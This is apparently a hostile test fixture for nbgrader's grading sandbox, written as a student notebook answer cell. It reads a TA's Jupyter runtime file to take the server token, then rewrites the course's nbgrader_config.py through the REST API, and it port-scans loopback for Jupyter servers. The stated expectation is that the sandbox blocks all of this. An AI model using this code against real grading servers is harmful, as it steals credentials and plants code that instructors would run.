# Hostile fixture (issue 19, nbgrader): appended to an otherwise correct answer cell. The TA has a
# Jupyter server running (as in a course where TAs grade from JupyterLab). The kernel reads the
# server's runtime file (its URL and token) from the TA's Jupyter runtime folder and, through the
# server's REST API, rewrites the course's nbgrader_config.py (code the TA's next nbgrader command
# would run). Without the file, it looks for a Jupyter server on every open TCP port of loopback.
# Expected: no runtime file in the kernel's view, and the kernel is in its own network namespace
# (its ZMQ channels are unix sockets): "runtime files: 0", "jupyter servers answering: 0", the TA
# server's port not among the open ones. The course folder is unchanged; full points.
import glob
import json
import os
import socket
import urllib.request

_dirs = {
    os.environ.get("JUPYTER_RUNTIME_DIR") or "/nonexistent",
    os.path.expanduser("~/.local/share/jupyter/runtime"),
    os.path.join(os.environ.get("XDG_RUNTIME_DIR") or "/nonexistent", "jupyter"),
}
try:
    from jupyter_core.paths import jupyter_runtime_dir

    _dirs.add(jupyter_runtime_dir())
except Exception:
    pass
_found = sorted({f for d in _dirs for f in glob.glob(os.path.join(d, "*server-*.json"))})
print("runtime files:", len(_found))
_course = os.path.abspath(os.path.join("..", "..", ".."))
for _file in _found:
    _info = json.load(open(_file))
    _rel = os.path.relpath(os.path.join(_course, "nbgrader_config.py"), _info["root_dir"])
    _body = json.dumps({"type": "file", "format": "text", "content": "raise SystemExit(1)\n"})
    _request = urllib.request.Request(
        _info["url"].rstrip("/") + "/api/contents/" + _rel,
        data=_body.encode(),
        method="PUT",
        headers={"Authorization": "token " + _info["token"], "Content-Type": "application/json"},
    )
    try:
        urllib.request.urlopen(_request, timeout=10)
        print("config rewritten through", _info["url"])
    except Exception as error:
        print("REST API refused:", type(error).__name__)
_open = []
for _port in range(1, 65536):
    with socket.socket() as _s:
        _s.settimeout(0.2)
        if _s.connect_ex(("127.0.0.1", _port)) == 0:
            _open.append(_port)
print("loopback ports open:", _open)
_servers = 0
for _port in _open:
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{_port}/api", timeout=3) as _reply:
            _servers += "version" in json.loads(_reply.read())
    except Exception:
        pass
print("jupyter servers answering:", _servers)
